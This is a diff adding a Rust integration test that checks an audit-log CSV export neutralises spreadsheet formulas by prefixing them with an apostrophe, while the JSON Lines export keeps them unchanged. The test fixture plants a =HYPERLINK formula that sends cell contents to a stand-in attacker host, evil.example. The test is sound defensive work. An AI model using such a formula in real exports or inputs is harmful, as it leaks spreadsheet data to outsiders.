@@ -352,3 +352,24 @@ async fn export_round_trip_csv_and_json_lines() {
     // exports are audited
     assert_eq!(app.events_of("audit_export").await.len(), 2);
 }
+
+/// A user agent (or filter, or SQL) that looks like a spreadsheet formula is exported to CSV
+/// with a leading `'`, so opening the export runs nothing; the JSON Lines export keeps it exactly.
+#[tokio::test]
+async fn csv_export_neutralises_formulas() {
+    let app = app_with_log(1).await;
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let mut attacker = Browser::new(&app);
+    attacker.user_agent = formula.into();
+    let (s, _) = attacker.post("/api/login", json!({ "email": "nobody@example.org", "password": "not the password at all" })).await;
+    assert_eq!(s, StatusCode::UNAUTHORIZED, "a failed sign-in is still recorded, with its user agent");
+    let auditor = reviewer(&app, "csv-inj@example.org", Role::Auditor).await;
+    let csv_text = auditor.raw(reqwest::Method::GET, "/api/audit/export?format=csv", None).await.text().await.unwrap();
+    let mut rdr = csv::Reader::from_reader(csv_text.as_bytes());
+    let ua = attest::audit::export::CSV_HEADER.iter().position(|h| *h == "user_agent").unwrap();
+    let agents: Vec<String> = rdr.records().map(|r| r.unwrap()[ua].to_string()).collect();
+    assert!(agents.contains(&format!("'{formula}")), "{agents:?}");
+    assert!(!agents.iter().any(|a| a.starts_with('=')));
+    let jsonl = auditor.raw(reqwest::Method::GET, "/api/audit/export?format=jsonl", None).await.text().await.unwrap();
+    assert!(jsonl.lines().any(|l| serde_json::from_str::<Value>(l).unwrap()["user_agent"] == formula));
+}
